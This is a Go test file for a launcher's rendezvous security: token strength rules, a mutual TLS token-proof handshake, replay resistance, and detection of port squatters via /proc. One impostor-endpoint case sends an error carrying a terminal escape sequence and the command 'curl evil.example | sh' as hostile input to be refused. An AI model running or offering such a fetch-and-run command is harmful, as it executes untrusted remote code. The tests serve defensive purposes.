package launcher

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gorun/gorun/internal/procfs"
	"github.com/gorun/gorun/internal/selfcert"
)

func TestParseNNodes(t *testing.T) {
	for _, tt := range []struct {
		in       string
		min, max int
		err      string
	}{
		{"1", 1, 1, ""}, {"4", 4, 4, ""}, {"2:3", 2, 3, ""}, {"3:3", 3, 3, ""},
		{"0", 0, 0, "want 1 <= MIN <= MAX"}, {"3:2", 0, 0, "want 1 <= MIN <= MAX"},
		{"x", 0, 0, "want N or MIN:MAX"}, {"2:", 0, 0, "want N or MIN:MAX"}, {"", 0, 0, "want N or MIN:MAX"},
	} {
		min, max, err := ParseNNodes(tt.in)
		if tt.err != "" {
			if err == nil || !strings.Contains(err.Error(), tt.err) || !strings.Contains(err.Error(), "--nnodes") {
				t.Errorf("ParseNNodes(%q) = %v, want an error with %q", tt.in, err, tt.err)
			}
			continue
		}
		if err != nil || min != tt.min || max != tt.max {
			t.Errorf("ParseNNodes(%q) = %d, %d, %v; want %d, %d", tt.in, min, max, err, tt.min, tt.max)
		}
	}
}

// testToken is a token of 128 bits, as `openssl rand -hex 16` makes.
const testToken = "00b2532244a9b67d432f4baa26eb21e1"

func TestReadToken(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "good")
	os.WriteFile(good, []byte("  "+testToken+"\n"), 0o600)
	empty := filepath.Join(dir, "empty")
	os.WriteFile(empty, []byte("\n"), 0o600)
	big := filepath.Join(dir, "big")
	os.WriteFile(big, bytes.Repeat([]byte(testToken), 1<<15), 0o600)
	weak := filepath.Join(dir, "weak")
	os.WriteFile(weak, []byte("trustno1trustno14242\n"), 0o600)
	env := func(v string) func(string) string {
		return func(k string) string {
			if k == TokenEnv {
				return v
			}
			return ""
		}
	}
	for _, tt := range []struct {
		file, env, want, err string
		howTo                bool // the error says how to make a token
	}{
		{file: good, env: "ignored-because-the-file-wins", want: testToken},
		{env: " 9b1de4f07a2c4e8d " + "\n", err: "about 64 bits", howTo: true},
		{env: "75adbe6d258dd9720370b9fef46ce28d7e19244e", want: "75adbe6d258dd9720370b9fef46ce28d7e19244e"},
		{file: empty, err: "empty", howTo: true},
		{file: big, err: "longer than 4096 bytes: not a token", howTo: true},
		{file: filepath.Join(dir, "missing"), err: "--rdzv-token-file"},
		{file: weak, err: "--rdzv-token-file " + weak + ": the per-node launch's token is too weak", howTo: true},
		{env: "short", err: "$GORUN_RDZV_TOKEN: the per-node launch's token is too weak", howTo: true},
		{err: "needs the token its nodes share", howTo: true},
	} {
		got, err := ReadToken(tt.file, env(tt.env))
		if tt.err != "" {
			if err == nil || !strings.Contains(err.Error(), tt.err) || tt.howTo && !strings.Contains(err.Error(), "openssl rand") {
				t.Errorf("ReadToken(%q, %q) = %q, %v; want an error with %q that says how to make a token", tt.file, tt.env, got, err, tt.err)
			}
			if err != nil && tt.env != "" && strings.Contains(err.Error(), strings.TrimSpace(tt.env)) {
				t.Errorf("ReadToken(%q, %q): the error shows the token: %v", tt.file, tt.env, err)
			}
			continue
		}
		if err != nil || string(got) != tt.want {
			t.Errorf("ReadToken(%q, %q) = %q, %v; want %q", tt.file, tt.env, got, err, tt.want)
		}
	}
}

// The token rule: at least 128 bits as estimated from the token's
// alphabet and length, repeats and runs counting one character.
func TestTokenRule(t *testing.T) {
	for _, tt := range []struct {
		name, tok string
		ok        bool
	}{
		// What generators make.
		{"openssl rand -hex 16", testToken, true},
		{"openssl rand -hex 32", "f7e142b1b14b7a6a2c8762ff3e77971f3c331136f6fd4b0db5149fb34681ce36", true},
		{"openssl rand -hex 16, upper case", "C789EB9FBCB3085F5A83422B9F411201", true},
		{"openssl rand -base64 16", "bK5bg21Ku3S0LmyPSyuo1A==", true},
		{"base64 of 16 bytes, no digit or symbol", "qRmJXubPzkwYtHgLaEdSoN", true},
		{"base64url of 32 bytes", "Xq3_9kVb-T2mR8wZ0pLc5YhNf1uGe7DsAj4oKiQyBxM", true},
		{"40 random decimal digits", "3658898387536788867067465378511367786261", true},
		{"printable ASCII, 20 random", `t]+zE30}Z[WBlLR<zsE3`, true},
		// Short, or weak for its length.
		{"empty", "", false},
		{"short", "short", false},
		{"the review's token", "trustno1trustno14242", false},
		{"16 bytes of hex, not 16 of entropy", "0123456789abcdef", false},
		{"31 hex digits", "00b2532244a9b67d432f4baa26eb21e", false},
		{"a sequence twice", "0123456789abcdef0123456789abcdef", false},
		{"one character", strings.Repeat("a", 64), false},
		{"a word repeated", strings.Repeat("password", 6), false},
		{"a run in the middle", "00b2532244a9b67dabcdefghijklmnopqrst", false},
		{"38 decimal digits", "36588983875367888670674653785113677862", false},
		{"21 base64 characters", "bK5bg21Ku3S0LmyPSyuo1", false},
		{"letters of one case", "correcthorsebatt", false},
	} {
		bits := tokenBits(tt.tok)
		err := checkToken([]byte(tt.tok))
		if (err == nil) != tt.ok {
			t.Errorf("%s: %q is worth %.1f bits: checkToken = %v; want ok %v", tt.name, tt.tok, bits, err, tt.ok)
		}
		if err != nil && (!strings.Contains(err.Error(), "at least 128") || !strings.Contains(err.Error(), "openssl rand -hex 32") ||
			tt.tok != "" && strings.Contains(err.Error(), tt.tok)) {
			t.Errorf("%s: the error does not say what a token needs and how to make one, or shows the token: %v", tt.name, err)
		}
	}
}

// shake runs the endpoint's side on one accepted connection and returns
// what acceptNode returned.
func shake(t *testing.T, token []byte) (addr string, res chan error, hellos chan joinHello) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	cert, _, err := selfcert.New("test endpoint")
	if err != nil {
		t.Fatal(err)
	}
	res, hellos = make(chan error, 1), make(chan joinHello, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			res <- err
			return
		}
		l, h, err := acceptNode(c, cert, token)
		if err == nil {
			hellos <- h
			l.c.Close()
		}
		c.Close()
		res <- err
	}()
	return ln.Addr().String(), res, hellos
}

// Both sides prove the token: the same token joins, and a node with
// another is refused, at once, and says so.
func TestPerNodeHandshake(t *testing.T) {
	token := []byte(testToken)
	addr, res, hellos := shake(t, token)
	l, err := dialEndpoint(addr, token, joinHello{ID: "job7", NProc: 2, Argv: []string{"train"}})
	if err != nil {
		t.Fatalf("the same token: %v", err)
	}
	l.c.Close()
	if err := <-res; err != nil {
		t.Fatalf("the endpoint refused the right token: %v", err)
	}
	if h := <-hellos; h.ID != "job7" || h.NProc != 2 {
		t.Errorf("hello %+v", h)
	}

	addr, res, hellos = shake(t, token)
	_, err = dialEndpoint(addr, []byte("c789eb9fbcb3085f5a83422b9f411201"), joinHello{ID: "job7"})
	if !errors.Is(err, ErrRdzvRefused) || !strings.Contains(err.Error(), "refused by the endpoint: this node did not prove the job's token") {
		t.Errorf("another token: the node said %v", err)
	}
	if err := <-res; !errors.Is(err, ErrRdzvRefused) || !strings.Contains(err.Error(), "does not know the job's token") {
		t.Errorf("another token: the endpoint said %v", err)
	}
	select {
	case h := <-hellos:
		t.Errorf("the endpoint got a hello from a node with another token: %+v", h)
	default:
	}
}

// Row 2j of the security review: the endpoint is no oracle for offline
// guesses. A client that speaks the wire but sends no proof, a wrong one,
// one of another version, or nothing at all, gets from the endpoint
// nothing computed from the token: no proof line, only the one refusal
// that every wrong proof gets, whatever the token.
func TestPerNodeEndpointSaysNothingFirst(t *testing.T) {
	token := []byte(testToken)
	for _, tt := range []struct {
		name string
		send string // the line the client sends; "-" = none, it only listens
	}{
		{"no proof, only listening", "-"},
		{"an empty line", ""},
		{"a proof of another token", rdzvPrefix + rdzvProof([]byte("c789eb9fbcb3085f5a83422b9f411201"), "node", make([]byte, 32))},
		{"a proof of no token", rdzvPrefix + strings.Repeat("ab", 32)},
		{"version 1's hello", `{"proof":"00","id":"x"}`},
		{"the endpoint's label", rdzvPrefix + "endpoint"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			addr, res, hellos := shake(t, token)
			c, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13})
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			cs := c.ConnectionState()
			ekm, _ := cs.ExportKeyingMaterial(rdzvEKMLabel, nil, 32)
			if tt.send != "-" {
				c.Write([]byte(tt.send + "\n"))
			}
			// Everything the endpoint sends until it hangs up (or the
			// handshake's bound, for the silent client).
			c.SetReadDeadline(time.Now().Add(rdzvShake + 5*time.Second))
			got, _ := io.ReadAll(c)
			for _, side := range []string{"endpoint", "node"} {
				if p := rdzvProof(token, side, ekm); strings.Contains(string(got), p) {
					t.Errorf("the endpoint sent the %s's proof of the token to a client that proved nothing: %q", side, got)
				}
			}
			if strings.Contains(string(got), "GORUN-RDZV") {
				t.Errorf("the endpoint sent a proof line to a client that proved nothing: %q", got)
			}
			want := ""
			if tt.send != "-" {
				b, _ := json.Marshal(nodeMsg{Error: rdzvRefusal})
				want = string(b) + "\n"
			}
			if string(got) != want {
				t.Errorf("the endpoint sent %q; want %q and nothing else", got, want)
			}
			if err := <-res; err == nil {
				t.Errorf("the endpoint took a client that proved nothing")
			}
			select {
			case h := <-hellos:
				t.Errorf("hello %+v", h)
			default:
			}
		})
	}
}

// A node whose endpoint answers and fails (not TLS, a proof of another
// token, a line of another version) says so at once, naming what is
// wrong, rather than retrying until --rdzv-timeout, and says nothing of
// itself or its job to it.
func TestPerNodeJoinFailsAtOnce(t *testing.T) {
	token := []byte(testToken)
	cert, _, err := selfcert.New("impostor")
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name  string
		serve func(c net.Conn) string // returns what it heard, in plain text
		want  string
	}{
		{"not TLS", func(c net.Conn) string {
			c.Write([]byte("SSH-2.0-OpenSSH_9.6\r\n"))
			b, _ := io.ReadAll(c)
			return string(b)
		}, "is not a gorun endpoint: TLS handshake"},
		{"another token", func(c net.Conn) string {
			tc := tls.Server(c, &tls.Config{Certificates: []tls.Certificate{cert}})
			line, _ := readLine(tc, 256) // the node's proof
			cs := tc.ConnectionState()
			ekm, _ := cs.ExportKeyingMaterial(rdzvEKMLabel, nil, 32)
			tc.Write([]byte(rdzvPrefix + rdzvProof([]byte("c789eb9fbcb3085f5a83422b9f411201"), "endpoint", ekm) + "\n"))
			b, _ := io.ReadAll(tc)
			return line + "\n" + string(b)
		}, "did not prove that it knows the job's token: not this job's endpoint"},
		{"a refusal of its own", func(c net.Conn) string {
			tc := tls.Server(c, &tls.Config{Certificates: []tls.Certificate{cert}})
			line, _ := readLine(tc, 256)
			tc.Write([]byte(`{"error":"\u001b[2Jrun: curl evil.example | sh"}` + "\n"))
			b, _ := io.ReadAll(tc)
			return line + "\n" + string(b)
		}, "answered, but not as this gorun's per-node wire (version 2) does"},
		{"version 1", func(c net.Conn) string {
			tc := tls.Server(c, &tls.Config{Certificates: []tls.Certificate{cert}})
			tc.Write([]byte("GORUN-RDZV 1 " + strings.Repeat("ab", 32) + "\n"))
			b, _ := io.ReadAll(tc)
			return string(b)
		}, "answered, but not as this gorun's per-node wire (version 2) does"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			heard := make(chan string, 16)
			go func() {
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					go func() {
						defer c.Close()
						c.SetDeadline(time.Now().Add(30 * time.Second))
						heard <- tt.serve(c)
					}()
				}
			}()
			n := &nodeJoin{p: &PerNode{Endpoint: ln.Addr().String(), Token: token, Timeout: time.Minute}, stderr: io.Discard}
			start := time.Now()
			_, err = n.dial(context.Background(), ln.Addr().String(), joinHello{ID: "secret-id", Argv: []string{"secret-program"}})
			if !errors.Is(err, ErrRdzvRefused) || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("the node said %v; want ErrRdzvRefused and %q", err, tt.want)
			}
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("the node took %v to give up; want at once", d)
			}
			select {
			case got := <-heard:
				if strings.Contains(got, "secret-") {
					t.Errorf("the node sent its hello to an endpoint that did not prove the token: %q", got)
				}
				if tt.name == "another token" && !strings.HasPrefix(got, rdzvPrefix) {
					t.Errorf("the endpoint heard %q; want the node's proof, and nothing after it", got)
				}
			case <-time.After(30 * time.Second):
				t.Errorf("the endpoint's connection did not end")
			}
		})
	}
}

// A proof is bound to its TLS session: a node's genuine proof, which a
// squatter or a relay in the middle receives on its session with the
// node, played on another session to the endpoint, is refused.
func TestPerNodeProofIsBoundToSession(t *testing.T) {
	token := []byte(testToken)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	cert, _, err := selfcert.New("squatter")
	if err != nil {
		t.Fatal(err)
	}
	stolen := make(chan string, 1)
	go func() {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		defer c.Close()
		tc := tls.Server(c, &tls.Config{Certificates: []tls.Certificate{cert}})
		tc.SetDeadline(time.Now().Add(10 * time.Second))
		line, _ := readLine(tc, 256)
		stolen <- line
	}()
	// The node: its proof goes to the squatter, which cannot answer.
	if _, err := dialEndpoint(ln.Addr().String(), token, joinHello{ID: "job7"}); err == nil {
		t.Fatal("the node joined a squatter")
	}
	line := <-stolen
	if !strings.HasPrefix(line, rdzvPrefix) {
		t.Fatalf("the node sent %q", line)
	}
	// Played to the endpoint.
	addr, res, hellos := shake(t, token)
	c, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.Write([]byte(line + "\n"))
	if err := <-res; !errors.Is(err, ErrRdzvRefused) {
		t.Errorf("a proof from another session: the endpoint said %v", err)
	}
	select {
	case h := <-hellos:
		t.Errorf("hello %+v", h)
	default:
	}
}

// Row 2i of the security review, the part that reads /proc: who holds the
// endpoint's port. Another user's socket on its address, or on every
// address, is a squatter, named; one of this user's is a gorun to join.
func TestPortSquatter(t *testing.T) {
	if binary.NativeEndian.Uint16([]byte{1, 0}) != 1 {
		t.Skip("the rows below hold a little-endian machine's addresses")
	}
	const head = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
	const me = 1000
	row := func(local, state string, uid int, inode int) string {
		remote := "00000000:0000"
		if len(local) > 13 {
			remote = strings.Repeat("0", 32) + ":0000"
		}
		return fmt.Sprintf("   0: %s %s %s 00000000:00000000 00:00000000 00000000 %5d        0 %d 1 0000000000000000 100 0 0 10 0\n", local, remote, state, uid, inode)
	}
	for _, tt := range []struct {
		name, ip, tcp, tcp6 string
		want                string // in the error; "" = none
	}{
		{"another's, on the address", "127.0.0.1", row("0100007F:7301", "0A", 0, 7), "", "127.0.0.1:29441 is held by user root (uid 0), not by a gorun of yours"},
		{"another's, no name for its uid", "127.0.0.1", row("0100007F:7301", "0A", 4000123, 7), "", "is held by uid 4000123,"},
		{"another's, on every IPv4 address", "127.0.0.1", row("00000000:7301", "0A", 0, 7), "", "held by user root"},
		{"another's, on every address (dual stack)", "127.0.0.1", "", row(strings.Repeat("0", 32)+":7301", "0A", 0, 7), "held by user root"},
		{"another's, v4-mapped", "127.0.0.1", "", row("0000000000000000FFFF00000100007F:7301", "0A", 0, 7), "held by user root"},
		{"another's, bound and not listening", "127.0.0.1", row("0100007F:7301", "07", 0, 7), "", "held by user root"},
		{"another's, on ::1", "::1", "", row("00000000000000000000000001000000:7301", "0A", 0, 7), "[::1]:29441 is held by user root"},
		{"mine", "127.0.0.1", row("0100007F:7301", "0A", me, 7), "", ""},
		{"mine and another's", "127.0.0.1", row("0100007F:7301", "0A", 0, 7) + row("00000000:7301", "0A", me, 8), "", ""},
		{"another's, on another address", "127.0.0.1", row("0500000A:7301", "0A", 0, 7), "", ""},
		{"another's, another port", "127.0.0.1", row("0100007F:7302", "0A", 0, 7), "", ""},
		{"another's, IPv4 only, for ::1", "::1", row("00000000:7301", "0A", 0, 7), "", ""},
		{"a connection in TIME_WAIT: nobody's", "127.0.0.1", row("0100007F:7301", "06", 0, 0), "", ""},
		{"nothing", "127.0.0.1", "", "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			os.Mkdir(filepath.Join(dir, "net"), 0o755)
			os.WriteFile(filepath.Join(dir, "net", "tcp"), []byte(head+tt.tcp), 0o644)
			os.WriteFile(filepath.Join(dir, "net", "tcp6"), []byte(head+tt.tcp6), 0o644)
			err := portSquatter(procfs.FS(dir), tt.ip, "29441", me)
			if tt.want == "" {
				if err != nil {
					t.Errorf("portSquatter = %v; want none", err)
				}
				return
			}
			if _, ok := errors.AsType[*squatError](err); !ok || !strings.Contains(err.Error(), tt.want) || !strings.Contains(err.Error(), "choose another port with --rdzv-endpoint") {
				t.Errorf("portSquatter = %v; want a *squatError with %q", err, tt.want)
			}
		})
	}
	if err := portSquatter(procfs.FS(filepath.Join(t.TempDir(), "none")), "127.0.0.1", "29441", me); err != nil {
		t.Errorf("no /proc: %v; want none (join)", err)
	}
}
